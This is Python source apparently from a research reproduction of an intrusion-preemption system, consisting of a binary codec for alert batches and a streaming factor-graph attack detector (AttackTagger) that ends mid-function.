            Alert(timestamp, name, entity, source_ip, host, monitor)
            for timestamp, name, entity, source_ip, host, monitor in zip(
                timestamps, names, entities, source_ips, hosts, monitors
            )
        ]
    return [
        Alert(timestamp, name, entity, source_ip, host, monitor, attrs)
        for timestamp, name, entity, source_ip, host, monitor, attrs in zip(
            timestamps, names, entities, source_ips, hosts, monitors, attributes
        )
    ]


class AlertColumnsCodecError(ValueError):
    """A batch the flat binary codec cannot express (or a corrupt buffer).

    Raised by :func:`encode_alert_columns` for values outside the
    codec's closed type set (the transport treats it as "fall back to
    pickle", not as an error) and by :func:`decode_alert_columns` for
    buffers that are not a well-formed encoding.
    """


#: Magic prefix of the flat binary alert-columns layout (versioned).
ALERT_COLUMNS_MAGIC = b"ACB1"

_HEADER = struct.Struct("<4sBI")
_F64 = "<%dd"
_U32S = "<%dI"
_U32 = struct.Struct("<I")
_D = struct.Struct("<d")


def _encode_value(out: bytearray, value: Any, _u32=None, _d=None) -> None:
    """Append one attribute value in the tagged recursive encoding.

    Runs once per attribute element on the parent's per-batch critical
    path; the ``str`` arm leads and appends in one concatenation.
    """
    _u32 = _u32 or _U32.pack
    _d = _d or _D.pack
    kind = type(value)
    if kind is str:
        raw = value.encode("utf-8")
        out += b"s" + _u32(len(raw)) + raw
    elif value is None:
        out += b"N"
    elif value is True:
        out += b"T"
    elif value is False:
        out += b"F"
    elif kind is int:
        digits = b"%d" % value
        out += b"i" + _u32(len(digits)) + digits
    elif kind is float:
        out += b"f" + _d(value)
    elif kind is bytes:
        out += b"b" + _u32(len(value)) + value
    elif kind is list or kind is tuple:
        out += (b"l" if kind is list else b"t") + _u32(len(value))
        for item in value:
            _encode_value(out, item, _u32, _d)
    elif kind is dict:
        out += b"d" + _u32(len(value))
        for key, item in value.items():
            if type(key) is not str:
                raise AlertColumnsCodecError(
                    f"attribute keys must be str, got {type(key).__name__}"
                )
            raw = key.encode("utf-8")
            out += _u32(len(raw)) + raw
            _encode_value(out, item, _u32, _d)
    else:
        raise AlertColumnsCodecError(
            f"value of type {type(value).__name__} is outside the flat "
            "binary codec's type set"
        )


# Integer tag constants: ``_decode_value`` runs once per alert on the
# worker's critical path, and ``buf[offset]`` on bytes yields an int --
# integer compares beat one-byte slice allocations there.
_TAG_NONE, _TAG_TRUE, _TAG_FALSE = ord("N"), ord("T"), ord("F")
_TAG_INT, _TAG_FLOAT, _TAG_STR, _TAG_BYTES = ord("i"), ord("f"), ord("s"), ord("b")
_TAG_LIST, _TAG_TUPLE, _TAG_DICT = ord("l"), ord("t"), ord("d")


def _decode_value(
    buf: bytes,
    offset: int,
    _u32=_U32.unpack_from,
    _d=_D.unpack_from,
) -> tuple:
    """Inverse of :func:`_encode_value`; returns ``(value, new_offset)``."""
    if offset >= len(buf):
        raise AlertColumnsCodecError("truncated attribute payload")
    tag = buf[offset]
    offset += 1
    if tag == _TAG_STR or tag == _TAG_BYTES:
        (size,) = _u32(buf, offset)
        offset += 4
        end = offset + size
        raw = buf[offset:end]
        if len(raw) != size:
            raise AlertColumnsCodecError("truncated attribute payload")
        return (raw.decode("utf-8") if tag == _TAG_STR else raw), end
    if tag == _TAG_NONE:
        return None, offset
    if tag == _TAG_TRUE:
        return True, offset
    if tag == _TAG_FALSE:
        return False, offset
    if tag == _TAG_INT:
        (size,) = _u32(buf, offset)
        offset += 4
        return int(buf[offset : offset + size]), offset + size
    if tag == _TAG_FLOAT:
        (value,) = _d(buf, offset)
        return value, offset + 8
    if tag == _TAG_LIST or tag == _TAG_TUPLE:
        (count,) = _u32(buf, offset)
        offset += 4
        items = []
        for _ in range(count):
            item, offset = _decode_value(buf, offset)
            items.append(item)
        return (items if tag == _TAG_LIST else tuple(items)), offset
    if tag == _TAG_DICT:
        (count,) = _u32(buf, offset)
        offset += 4
        mapping = {}
        for _ in range(count):
            (size,) = _u32(buf, offset)
            offset += 4
            key = buf[offset : offset + size].decode("utf-8")
            offset += size
            mapping[key], offset = _decode_value(buf, offset)
        return mapping, offset
    raise AlertColumnsCodecError(f"unknown attribute value tag {bytes((tag,))!r}")


def _encode_str_column(out: bytearray, column: Sequence[str], count: int) -> None:
    """Append one string column: u32 lengths, then concatenated UTF-8.

    The length array is built with ``np.fromiter`` rather than
    ``struct.pack(..., *lengths)``: the codec sits on the parent's
    per-batch critical path, and vectorising the length column (here
    and on decode) is what keeps the shm transport's parent-side CPU
    below the pickle path's.
    """
    try:
        raws = [value.encode("utf-8") for value in column]
    except (AttributeError, UnicodeEncodeError) as exc:
        raise AlertColumnsCodecError(str(exc)) from exc
    lengths = np.fromiter(map(len, raws), dtype=np.int64, count=count)
    if count and int(lengths.max()) > 0xFFFFFFFF:
        raise AlertColumnsCodecError("string value exceeds the u32 length prefix")
    out += lengths.astype("<u4").tobytes()
    out += b"".join(raws)


def encode_alert_columns(columns: AlertColumns) -> bytes:
    """Flat binary layout of a :func:`pack_alert_columns` batch.

    Length-prefixed UTF-8 string columns plus fixed-width numeric
    columns -- no pickle opcodes anywhere, so a worker process can
    :func:`decode_alert_columns` straight out of a shared-memory ring
    without deserialising attacker-influenced pickle.  Raises
    :class:`AlertColumnsCodecError` for batches outside the codec's
    closed type set (non-float timestamps, non-string metadata, or
    attribute values beyond ``None``/``bool``/``int``/``float``/
    ``str``/``bytes``/``list``/``tuple``/``dict``); the shard transport
    treats that as "use the pickle fallback path".
    """
    timestamps, names, entities, source_ips, hosts, monitors, attributes = columns
    count = len(names)
    for value in timestamps:
        if type(value) is not float:
            raise AlertColumnsCodecError(
                f"timestamps must be float, got {type(value).__name__}"
            )
    out = bytearray()
    out += _HEADER.pack(ALERT_COLUMNS_MAGIC, 0 if attributes is None else 1, count)
    out += np.fromiter(timestamps, dtype="<f8", count=count).tobytes()
    for column in (names, entities, source_ips, hosts, monitors):
        _encode_str_column(out, column, count)
    if attributes is not None:
        # All blobs go into one bytearray; per-alert lengths come from
        # the boundary offsets (no per-alert bytearray allocations).
        blob = bytearray()
        bounds = [0] * (count + 1)
        for index, mapping in enumerate(attributes):
            _encode_value(
                blob, mapping if type(mapping) is dict else dict(mapping)
            )
            bounds[index + 1] = len(blob)
        ends = np.asarray(bounds, dtype=np.int64)
        blob_lengths = ends[1:] - ends[:-1]
        if count and int(blob_lengths.max()) > 0xFFFFFFFF:
            raise AlertColumnsCodecError(
                "attribute blob exceeds the u32 length prefix"
            )
        out += blob_lengths.astype("<u4").tobytes()
        out += blob
    return bytes(out)


def decode_alert_columns(buffer) -> AlertColumns:
    """Inverse of :func:`encode_alert_columns` (accepts any buffer view).

    Returns the exact :func:`pack_alert_columns` tuple shape, so
    ``unpack_alert_columns(decode_alert_columns(encode_alert_columns(
    pack_alert_columns(batch))))`` rebuilds ``batch`` field-for-field.
    """
    # One bulk copy out of the caller's view (a shared-memory ring
    # window on the worker path): everything below then slices plain
    # bytes, which the per-alert attribute decoder needs anyway and
    # which beats per-element copies out of a memoryview.
    buf = buffer if type(buffer) is bytes else bytes(buffer)
    try:
        magic, flags, count = _HEADER.unpack_from(buf, 0)
    except struct.error as exc:
        raise AlertColumnsCodecError(str(exc)) from exc
    if magic != ALERT_COLUMNS_MAGIC:
        raise AlertColumnsCodecError(f"bad magic {magic!r}")
    offset = _HEADER.size
    try:
        if len(buf) < offset + 8 * count:
            raise AlertColumnsCodecError("truncated timestamp column")
        timestamps = tuple(
            np.frombuffer(buf, dtype="<f8", count=count, offset=offset).tolist()
        )
        offset += 8 * count
        string_columns = []
        for _ in range(5):
            if len(buf) < offset + 4 * count:
                raise AlertColumnsCodecError("truncated string column")
            lengths = np.frombuffer(buf, dtype="<u4", count=count, offset=offset)
            offset += 4 * count
            ends = np.cumsum(lengths, dtype=np.int64)
            total = int(ends[-1]) if count else 0
            blob = buf[offset : offset + total]
            if len(blob) != total:
                raise AlertColumnsCodecError("truncated string column")
            starts = ends - lengths
            string_columns.append(
                tuple(
                    blob[start:end].decode("utf-8")
                    for start, end in zip(starts.tolist(), ends.tolist())
                )
            )
            offset += total
        attributes: Optional[tuple] = None
        if flags & 1:
            if len(buf) < offset + 4 * count:
                raise AlertColumnsCodecError("truncated attribute column")
            lengths = struct.unpack_from(_U32S % count, buf, offset)
            offset += 4 * count
            decoded = []
            for size in lengths:
                value, end = _decode_value(buf, offset)
                if end != offset + size:
                    raise AlertColumnsCodecError("attribute blob length mismatch")
                decoded.append(value)
                offset = end
            attributes = tuple(decoded)
    except (struct.error, UnicodeDecodeError) as exc:
        raise AlertColumnsCodecError(str(exc)) from exc
    if offset != len(buf):
        raise AlertColumnsCodecError(
            f"{len(buf) - offset} trailing byte(s) after a complete batch"
        )
    names, entities, source_ips, hosts, monitors = string_columns
    return (timestamps, names, entities, source_ips, hosts, monitors, attributes)


__all__ = [
    "AlertCategory",
    "Severity",
    "AlertTypeSpec",
    "AlertVocabulary",
    "Alert",
    "build_default_vocabulary",
    "DEFAULT_VOCABULARY",
    "sort_alerts",
    "AlertColumns",
    "pack_alert_columns",
    "unpack_alert_columns",
    "AlertColumnsCodecError",
    "ALERT_COLUMNS_MAGIC",
    "encode_alert_columns",
    "decode_alert_columns",
]
