"""Streaming factor-graph detector (the preemption model).

:class:`AttackTagger` is the detector the paper deploys on the testbed.
It consumes the filtered, normalised alert stream produced by the
telemetry pipeline, maintains one alert sequence per monitored entity
(user account or host, following the attribution rules of §III.B), and
after every alert re-infers the entity's hidden state trajectory with
the chain factor graph built from:

* observation factors (``log P(alert | state)``),
* transition factors (state persistence),
* pattern factors for the S1..S43 catalogue of recurring attack
  sequences mined from past incidents.

The entity is *detected* the first time the maximum-a-posteriori state
trajectory ends in the malicious state with sufficient posterior
confidence.  If that happens before the first damage-stage alert, the
attack was *preempted* (see :mod:`repro.core.preemption`).
"""

from __future__ import annotations

import dataclasses
from collections import deque
from typing import Dict, Iterable, List, Mapping, MutableSequence, Optional, Sequence

import numpy as np

from .alerts import Alert, AlertVocabulary, DEFAULT_VOCABULARY
from .factor_graph import (
    chain_map_decode,
    chain_map_decode_batch,
    chain_marginals,
    chain_marginals_batch,
    chain_stream_trace_batch,
)
from .factors import FactorParameters, default_parameters, observation_log_for_sequence
from .sequences import AlertSequence, matched_prefix_length
from .states import NUM_STATES, HiddenState
from .streaming import StreamingDecoder, WeightedPattern


@dataclasses.dataclass(frozen=True)
class PatternSpec:
    """Minimal view of an attack pattern the detector needs.

    ``repro.incidents.patterns.AttackPattern`` provides ``name`` and
    ``names`` attributes and can be passed directly; this dataclass
    exists so the core package does not depend on the incidents
    package.
    """

    name: str
    names: tuple[str, ...]


@dataclasses.dataclass(frozen=True)
class Detection:
    """A detection decision emitted by :class:`AttackTagger`."""

    entity: str
    timestamp: float
    alert_index: int
    trigger: Alert
    state: HiddenState
    confidence: float
    matched_patterns: tuple[str, ...] = ()
    state_trajectory: tuple[int, ...] = ()

    @property
    def is_malicious(self) -> bool:
        """Whether the decision tagged the entity as malicious."""
        return self.state is HiddenState.MALICIOUS


@dataclasses.dataclass
class DetectionTrace:
    """Per-step streaming outputs of one sequence replay.

    ``malicious_probability[t]`` is the posterior probability that the
    entity is malicious after observing alerts ``0..t``;
    ``map_is_malicious[t]`` whether the MAP trajectory of that prefix
    ends in the malicious state.  Because the detector is causal, a
    replay of ``sequence.prefix(L)`` reproduces the first ``L`` entries
    of the full trace -- which is what lets the evaluation sweeps share
    one trace across every window length and threshold.
    """

    malicious_probability: np.ndarray
    map_is_malicious: np.ndarray

    def first_crossing(self, threshold: float, limit: Optional[int] = None) -> Optional[int]:
        """First step at which a detection would fire, or ``None``.

        ``limit`` restricts the search to the first ``limit`` steps
        (the observation window of a truncated replay).
        """
        flags = self.map_is_malicious & (self.malicious_probability >= threshold)
        if limit is not None:
            flags = flags[:limit]
        hits = np.flatnonzero(flags)
        return int(hits[0]) if hits.size else None


@dataclasses.dataclass
class EntityTrack:
    """Per-entity detector state: the observed alerts and cached decode.

    ``alerts`` holds the window-bounded alert history.  The tagger
    creates it as a ``collections.deque(maxlen=max_window)`` so the
    window trim is O(1) per alert (appending to a full deque drops the
    oldest element) instead of an O(W) list shift -- the same sequence
    API (append/iterate/len) is preserved.
    """

    entity: str
    alerts: MutableSequence[Alert] = dataclasses.field(default_factory=list)
    detected: Optional[Detection] = None
    decoder: Optional[StreamingDecoder] = None

    @property
    def sequence(self) -> AlertSequence:
        """Current alert sequence for the entity."""
        return AlertSequence(tuple(self.alerts))


class AttackTagger:
    """Streaming per-entity preemption detector.

    Parameters
    ----------
    parameters:
        Learned factor parameters; :func:`repro.core.factors
        .default_parameters` provides an untrained prior-only model.
    patterns:
        Catalogue of known attack patterns (objects with ``name`` and
        ``names``).  Only patterns with a positive weight in
        ``parameters.pattern_weights`` (or, if empty, all patterns with
        ``default_pattern_weight``) contribute evidence.
    detection_threshold:
        Minimum posterior probability of the malicious state at the
        final step required to emit a detection.
    max_window:
        Maximum number of most-recent alerts kept per entity.  The
        paper's Insight 2 bounds the useful sequence length; a window
        also bounds per-alert inference cost in the live pipeline.
    default_pattern_weight:
        Weight used for catalogue patterns when the trained parameters
        carry no pattern weights (the untrained/prior-only deployment).
    engine:
        ``"streaming"`` (default) maintains incremental per-entity
        decoder state (:class:`repro.core.streaming.StreamingDecoder`)
        so one alert costs O(K^2 + pattern advances) while the window
        fills and O(K^3) amortised once it saturates (the two-stack
        sliding aggregation of :mod:`repro.core.sliding_window` makes
        the ``max_window`` slide an eviction instead of a rebuild).
        ``"rebuild"`` keeps the previous slide behaviour -- incremental
        appends, but a full O(W * K^2) decoder rebuild on every window
        slide -- as the regression/benchmark reference for the
        amortised path.  ``"naive"`` keeps the seed behaviour of
        re-decoding the whole chain per alert.  ``"batched"`` keeps the
        exact per-entity state of ``"streaming"`` but advances every
        entity touched by a sub-batch together through the vectorised
        cross-entity kernel (:class:`repro.core.batch_kernel
        .BatchedDecodeKernel`): one ``(N, K, K)`` stacked semiring
        reduce per driver step instead of N small-matrix calls.  All
        engines produce bit-identical detections; pattern weights are
        resolved when an entity's decoder is created, so mutate
        ``parameters.pattern_weights`` only between ``run_sequence``
        calls (which reset the entity) when using a decoder engine.
    """

    def __init__(
        self,
        parameters: Optional[FactorParameters] = None,
        patterns: Sequence = (),
        *,
        detection_threshold: float = 0.5,
        max_window: int = 64,
        default_pattern_weight: float = 2.0,
        vocabulary: Optional[AlertVocabulary] = None,
        engine: str = "streaming",
    ) -> None:
        self.vocabulary = vocabulary or (parameters.vocabulary if parameters else DEFAULT_VOCABULARY)
        self.parameters = parameters or default_parameters(self.vocabulary)
        self.patterns: list[PatternSpec] = [
            PatternSpec(name=p.name, names=tuple(p.names)) for p in patterns
        ]
        if detection_threshold <= 0.0 or detection_threshold >= 1.0:
            raise ValueError("detection_threshold must be in (0, 1)")
        if max_window < 2:
            raise ValueError("max_window must be at least 2")
        if engine not in ("streaming", "rebuild", "naive", "batched"):
            raise ValueError(
                "engine must be 'streaming', 'rebuild', 'naive', or 'batched'"
            )
        self.detection_threshold = float(detection_threshold)
        self.max_window = int(max_window)
        self.default_pattern_weight = float(default_pattern_weight)
        self.engine = engine
        self._tracks: Dict[str, EntityTrack] = {}
        self._detections: List[Detection] = []
        # Cumulative seconds spent inside the batched decode kernel
        # (0.0 for the per-alert engines); surfaced per stage through
        # the pipeline's ``detect_kernel_seconds`` summary counter.
        self.kernel_seconds: float = 0.0
        self._batch_kernel = None

    # -- public state ------------------------------------------------------
    @property
    def detections(self) -> list[Detection]:
        """All detections emitted so far, in order."""
        return list(self._detections)

    def track(self, entity: str) -> EntityTrack:
        """The per-entity track (created on first use)."""
        if entity not in self._tracks:
            # deque(maxlen) keeps the per-alert window trim O(1).
            self._tracks[entity] = EntityTrack(
                entity=entity, alerts=deque(maxlen=self.max_window)
            )
        return self._tracks[entity]

    def entities(self) -> list[str]:
        """All entities observed so far."""
        return list(self._tracks)

    def reset(self) -> None:
        """Forget all per-entity state and past detections."""
        self._tracks.clear()
        self._detections.clear()

    def reset_entity(self, entity: str) -> None:
        """Forget one entity (e.g. after remediation re-images the host)."""
        self._tracks.pop(entity, None)

    # -- core inference -----------------------------------------------------
    def _pattern_weight(self, name: str) -> float:
        if self.parameters.pattern_weights:
            return self.parameters.pattern_weights.get(name, 0.0)
        return self.default_pattern_weight

    def _active_patterns(self) -> list[WeightedPattern]:
        """Catalogue patterns with a positive resolved weight, in order."""
        active: list[WeightedPattern] = []
        for pattern in self.patterns:
            weight = self._pattern_weight(pattern.name)
            if weight > 0.0:
                active.append(WeightedPattern(pattern.name, pattern.names, weight))
        return active

    def _make_decoder(self) -> StreamingDecoder:
        """Fresh incremental decoder bound to the current parameters."""
        return StreamingDecoder(self.parameters, self._active_patterns())

    def _trim_track(self, track: EntityTrack) -> None:
        """Defensive window trim for tracks not backed by a maxlen deque.

        :meth:`track` always creates ``deque(maxlen=max_window)`` (whose
        append already evicted the oldest alert, so this is a single
        length check), but an externally constructed
        :class:`EntityTrack` may carry a plain list.
        """
        while len(track.alerts) > self.max_window:
            del track.alerts[0]

    def _decoder_for(self, track: EntityTrack) -> StreamingDecoder:
        """The track's decoder, created (and synced to its alerts) on demand."""
        if track.decoder is None:
            track.decoder = self._make_decoder()
            for alert in track.alerts:
                track.decoder.append(alert.name)
        return track.decoder

    def _build_unary(self, names: Sequence[str]) -> tuple[np.ndarray, list[str]]:
        """Per-step log potentials including pattern-factor bonuses.

        The chain is kept exact by folding each (partially) matched
        pattern's bonus into the malicious-state unary potential of the
        step at which the match currently ends.
        """
        unary = observation_log_for_sequence(self.parameters, names).copy()
        if unary.shape[0] == 0:
            return unary, []
        unary[0] += self.parameters.initial_log
        matched_names: list[str] = []
        for pattern in self.patterns:
            weight = self._pattern_weight(pattern.name)
            if weight <= 0.0:
                continue
            matched = matched_prefix_length(pattern.names, names)
            if matched == 0:
                continue
            bonus = self.parameters.pattern_bonus(matched, len(pattern.names), weight)
            if bonus <= 0.0:
                continue
            # The bonus lands on the step where the matched prefix ends.
            end_index = self._prefix_end_index(pattern.names[:matched], names)
            unary[end_index, int(HiddenState.MALICIOUS)] += bonus
            if matched == len(pattern.names):
                matched_names.append(pattern.name)
        return unary, matched_names

    @staticmethod
    def _prefix_end_index(prefix: Sequence[str], names: Sequence[str]) -> int:
        """Index in ``names`` where the greedy match of ``prefix`` ends."""
        position = -1
        start = 0
        for symbol in prefix:
            for idx in range(start, len(names)):
                if names[idx] == symbol:
                    position = idx
                    start = idx + 1
                    break
        return max(0, position)

    def infer(self, entity: str) -> tuple[np.ndarray, np.ndarray, list[str]]:
        """Decode the current trajectory for an entity.

        Returns ``(map_states, final_marginal, matched_pattern_names)``
        where ``map_states`` is the Viterbi state per alert and
        ``final_marginal`` is the posterior over the entity's current
        state.  With the streaming engine this reads the incrementally
        maintained decoder state; the naive engine re-decodes the whole
        chain (seed behaviour).
        """
        track = self.track(entity)
        if not track.alerts:
            prior = np.exp(self.parameters.initial_log)
            return np.zeros(0, dtype=np.int64), prior / prior.sum(), []
        if self.engine != "naive":
            decoder = self._decoder_for(track)
            return decoder.map_path(), decoder.final_marginal(), decoder.matched_pattern_names()
        names = [a.name for a in track.alerts]
        unary, matched = self._build_unary(names)
        states = chain_map_decode(unary, self.parameters.transition_log)
        marginals = chain_marginals(unary, self.parameters.transition_log)
        return states, marginals[-1], matched

    # -- streaming API ------------------------------------------------------
    def observe(self, alert: Alert) -> Optional[Detection]:
        """Consume one alert; return a :class:`Detection` if one fires.

        A detection is emitted at most once per entity (the first time
        the entity crosses the threshold); subsequent alerts for an
        already-detected entity are still recorded so the response path
        can keep building the incident timeline.
        """
        detection = self._observe_impl(alert)
        if detection is not None:
            self._detections.append(detection)
        return detection

    def _observe_impl(self, alert: Alert) -> Optional[Detection]:
        """Single-alert inference without the global detection-log append.

        The batched kernel reuses this per-alert path for sub-batch
        rounds too small to be worth stacking, then appends all of a
        sub-batch's detections to ``_detections`` in stream order; the
        public :meth:`observe` is this plus the log append.
        """
        track = self.track(alert.entity)
        if track.detected is not None:
            # Already detected: record the alert for the incident
            # timeline but skip all inference work.  The deque drops the
            # evicted alert in O(1), so this fast path does no O(W)
            # work at all.  The decoder is dropped rather than
            # maintained; `_decoder_for` re-syncs it lazily should
            # `infer` be called for this entity again.
            track.alerts.append(alert)
            self._trim_track(track)
            track.decoder = None
            return None
        decoder = self._decoder_for(track) if self.engine != "naive" else None
        sliding = len(track.alerts) >= self.max_window
        track.alerts.append(alert)  # deque(maxlen) evicts the oldest in O(1)
        self._trim_track(track)
        if decoder is None:
            pass
        elif sliding and self.engine == "rebuild":
            # Legacy slide: re-anchor with a full O(W * K^2) re-decode.
            decoder.rebuild([a.name for a in track.alerts])
        else:
            decoder.append(alert.name)
            if sliding:
                # Amortised slide: O(K^3) two-stack eviction.
                decoder.evict_front()
        if decoder is not None:
            if decoder.windowed and not decoder.may_fire(self.detection_threshold):
                # The guard-banded aggregate decision is authoritative
                # for "cannot fire"; no exact decode is materialised.
                return None
            return self._finalize_decision(track, alert, decoder)
        states, final_marginal, matched = self.infer(alert.entity)
        final_state = HiddenState(int(states[-1])) if states.size else HiddenState.BENIGN
        malicious_probability = float(final_marginal[int(HiddenState.MALICIOUS)])
        if (
            final_state is not HiddenState.MALICIOUS
            or malicious_probability < self.detection_threshold
        ):
            return None
        detection = Detection(
            entity=alert.entity,
            timestamp=alert.timestamp,
            alert_index=len(track.alerts) - 1,
            trigger=alert,
            state=final_state,
            confidence=malicious_probability,
            matched_patterns=tuple(matched),
            state_trajectory=tuple(int(s) for s in states),
        )
        track.detected = detection
        return detection

    def _finalize_decision(
        self, track: EntityTrack, alert: Alert, decoder: StreamingDecoder
    ) -> Optional[Detection]:
        """Exact threshold decision + detection materialisation for a decoder.

        Shared tail of the per-alert path and the batched kernel: both
        arrive here only after their (guard-banded or stacked)
        pre-filter could not rule the entity out, and the exact decoder
        read-outs decide — and materialise — the detection
        bit-identically to the naive path.
        """
        final_marginal = decoder.final_marginal()
        final_state = HiddenState(decoder.final_state())
        malicious_probability = float(final_marginal[int(HiddenState.MALICIOUS)])
        if (
            final_state is not HiddenState.MALICIOUS
            or malicious_probability < self.detection_threshold
        ):
            return None
        # Only a firing detection pays for the full O(T) backtrack.
        states = decoder.map_path()
        matched = decoder.matched_pattern_names()
        detection = Detection(
            entity=alert.entity,
            timestamp=alert.timestamp,
            alert_index=len(track.alerts) - 1,
            trigger=alert,
            state=final_state,
            confidence=malicious_probability,
            matched_patterns=tuple(matched),
            state_trajectory=tuple(int(s) for s in states),
        )
        track.detected = detection
        return detection

    def observe_many(self, alerts: Iterable[Alert]) -> list[Detection]:
        """Consume a batch of alerts, returning any detections emitted."""
        if self.engine == "batched":
            return [detection for _, detection in self.observe_batch_indexed(alerts)]
        detections: list[Detection] = []
        for alert in alerts:
            detection = self.observe(alert)
            if detection is not None:
                detections.append(detection)
        return detections

    def observe_batch(self, alerts: Iterable[Alert]) -> list[Detection]:
        """Batch stage entry point of the :class:`repro.core.detector.Detector` protocol."""
        return self.observe_many(alerts)

    def observe_batch_indexed(
        self, alerts: Iterable[Alert]
    ) -> list[tuple[int, Detection]]:
        """Consume one sub-batch, returning ``(position, detection)`` pairs.

        Positions index into the sub-batch and are strictly increasing;
        they let sharded drivers reconstruct global stream order without
        assuming one-detection-per-alert.  Under ``engine="batched"``
        the whole sub-batch is advanced by the stacked cross-entity
        kernel; the other engines fall back to the per-alert loop with
        identical results.
        """
        alerts = list(alerts)
        if self.engine == "batched":
            if self._batch_kernel is None:
                from .batch_kernel import BatchedDecodeKernel

                self._batch_kernel = BatchedDecodeKernel(self)
            hits = self._batch_kernel.observe_rounds(alerts)
            self._detections.extend(detection for _, detection in hits)
            return hits
        hits = []
        for position, alert in enumerate(alerts):
            detection = self.observe(alert)
            if detection is not None:
                hits.append((position, detection))
        return hits

    def clone(self) -> "AttackTagger":
        """A fresh, stateless tagger with the same configuration.

        Used by the sharded detector pool to stamp out one independent
        detector per shard: parameters and the pattern catalogue are
        shared (they are read-only on the inference path), per-entity
        state starts empty.
        """
        return AttackTagger(
            self.parameters,
            self.patterns,
            detection_threshold=self.detection_threshold,
            max_window=self.max_window,
            default_pattern_weight=self.default_pattern_weight,
            vocabulary=self.vocabulary,
            engine=self.engine,
        )

    # -- shard state transfer ----------------------------------------------
    def __getstate__(self) -> dict:
        """Pickle-safe shard state: per-entity decoder caches are dropped.

        A :class:`~repro.core.streaming.StreamingDecoder` is a pure
        function of the track's (window-bounded) alert list, so
        ``_decoder_for`` rebuilds it lazily and bit-identically after
        unpickling.  Dropping the caches keeps the transferred state
        small when whole shards migrate between worker processes.
        """
        state = self.__dict__.copy()
        state["_tracks"] = {
            entity: dataclasses.replace(track, decoder=None)
            for entity, track in self._tracks.items()
        }
        # The kernel is pure scratch (stacked work buffers); recreated
        # lazily on the first batched observe after unpickling.
        state["_batch_kernel"] = None
        return state

    # -- live reshard migration --------------------------------------------
    # The optional Detector migration extension (see
    # repro.core.detector.Detector): ShardedDetectorPool.reshard() moves
    # per-entity state between replicas through these three methods.
    def export_entity_tracks(self) -> Dict[str, EntityTrack]:
        """Every per-entity track, with decoder caches dropped.

        The returned tracks are safe to hand to another replica built
        from the same configuration: a decoder is a pure function of
        the track's window-bounded alert list, so the adopting tagger
        rebuilds it lazily and bit-identically (same argument as
        :meth:`__getstate__`).
        """
        return {
            entity: dataclasses.replace(track, decoder=None)
            for entity, track in self._tracks.items()
        }

    def adopt_entity_track(self, entity: str, track: EntityTrack) -> None:
        """Take ownership of one migrated per-entity track."""
        if entity in self._tracks:
            raise ValueError(f"entity {entity!r} is already tracked")
        self._trim_track(track)
        self._tracks[entity] = track

    def replace_detections(self, detections: Sequence[Detection]) -> None:
        """Overwrite the emitted-detections log (reshard log rebuild)."""
        self._detections[:] = list(detections)

    def run_sequence(self, sequence: AlertSequence, entity: Optional[str] = None) -> Optional[Detection]:
        """Run a full stored sequence through a fresh per-entity track.

        Offline evaluation helper: the sequence's alerts are re-keyed to
        a dedicated entity so separate evaluations do not interfere.
        """
        entity = entity or (sequence[0].entity if len(sequence) else "entity:eval")
        self.reset_entity(entity)
        detection: Optional[Detection] = None
        for alert in sequence:
            result = self.observe(alert.with_entity(entity))
            if result is not None and detection is None:
                detection = result
        return detection

    # -- offline fast paths ----------------------------------------------------
    def _replay_decoder(self, sequence: AlertSequence):
        """Yield the synced decoder after each alert of an offline replay.

        Mirrors :meth:`observe` exactly (including the window slide --
        amortised eviction by default, the full rebuild under
        ``engine="rebuild"``) without touching any per-entity track or
        detection bookkeeping.
        """
        decoder = self._make_decoder()
        if self.engine == "rebuild":
            names: list[str] = []
            for alert in sequence:
                names.append(alert.name)
                if len(names) > self.max_window:
                    del names[: len(names) - self.max_window]
                    decoder.rebuild(names)
                else:
                    decoder.append(alert.name)
                yield decoder
            return
        for alert in sequence:
            decoder.append(alert.name)
            if decoder.length > self.max_window:
                decoder.evict_front()
            yield decoder

    def detection_trace(self, sequence: AlertSequence) -> DetectionTrace:
        """Per-step detection statistics of one offline sequence replay.

        One O(T) replay yields, for every prefix, the malicious
        posterior and whether the MAP trajectory ends malicious -- all a
        sweep needs to locate the first detection for *any* threshold or
        observation-window length (the detector is causal, so prefix
        replays coincide with trace prefixes).
        """
        steps = len(sequence)
        probabilities = np.zeros(steps)
        flags = np.zeros(steps, dtype=bool)
        malicious = int(HiddenState.MALICIOUS)
        for t, decoder in enumerate(self._replay_decoder(sequence)):
            probabilities[t] = decoder.final_malicious_probability()
            flags[t] = decoder.final_state() == malicious
        return DetectionTrace(malicious_probability=probabilities, map_is_malicious=flags)

    def detection_traces(self, sequences: Sequence[AlertSequence]) -> list[DetectionTrace]:
        """Detection traces for many sequences.

        When no pattern factors are active the per-step unary tables are
        prefix-stable, so all traces are computed in a single padded
        ``(N, T, K)`` tensor pass
        (:func:`repro.core.factor_graph.chain_stream_trace_batch`).
        With active patterns -- whose bonuses relocate as matches extend
        -- each sequence is replayed through its own incremental
        decoder instead.
        """
        sequences = list(sequences)
        if self._active_patterns() or any(len(s) > self.max_window for s in sequences):
            return [self.detection_trace(sequence) for sequence in sequences]
        unaries = []
        for sequence in sequences:
            unary = observation_log_for_sequence(self.parameters, sequence.names).copy()
            if unary.shape[0]:
                unary[0] += self.parameters.initial_log
            unaries.append(unary)
        malicious = int(HiddenState.MALICIOUS)
        traces = []
        for marginals, map_states in chain_stream_trace_batch(
            unaries, self.parameters.transition_log
        ):
            traces.append(
                DetectionTrace(
                    malicious_probability=marginals[:, malicious].copy()
                    if marginals.size
                    else np.zeros(len(map_states)),
                    map_is_malicious=map_states == malicious,
                )
            )
        return traces

    def detections_at(
        self, requests: Sequence[tuple[AlertSequence, int, str]]
    ) -> list[Detection]:
        """Materialise the :class:`Detection` records many streams would emit.

        Each request is ``(sequence, index, entity)``: the detection the
        live stream would have produced while observing alert ``index``
        of ``sequence``.  The per-request observation window's unary
        table is rebuilt directly (no step-by-step replay) and all
        requests are decoded together through
        :func:`repro.core.factor_graph.chain_map_decode_batch` /
        :func:`chain_marginals_batch` -- one padded ``(N, T, K)`` tensor
        pass instead of N independent replays.  Callers are responsible
        for each ``index`` being a genuine crossing
        (see :meth:`DetectionTrace.first_crossing`).
        """
        unaries: list[np.ndarray] = []
        matched_lists: list[list[str]] = []
        for sequence, index, _entity in requests:
            if not 0 <= index < len(sequence):
                raise IndexError(
                    f"index {index} outside sequence of length {len(sequence)}"
                )
            names = [alert.name for alert in sequence.alerts[: index + 1]]
            if len(names) > self.max_window:
                names = names[len(names) - self.max_window :]
            unary, matched = self._build_unary(names)
            unaries.append(unary)
            matched_lists.append(matched)
        if not unaries:
            return []
        transition = self.parameters.transition_log
        paths = chain_map_decode_batch(unaries, transition)
        marginals = chain_marginals_batch(unaries, transition)
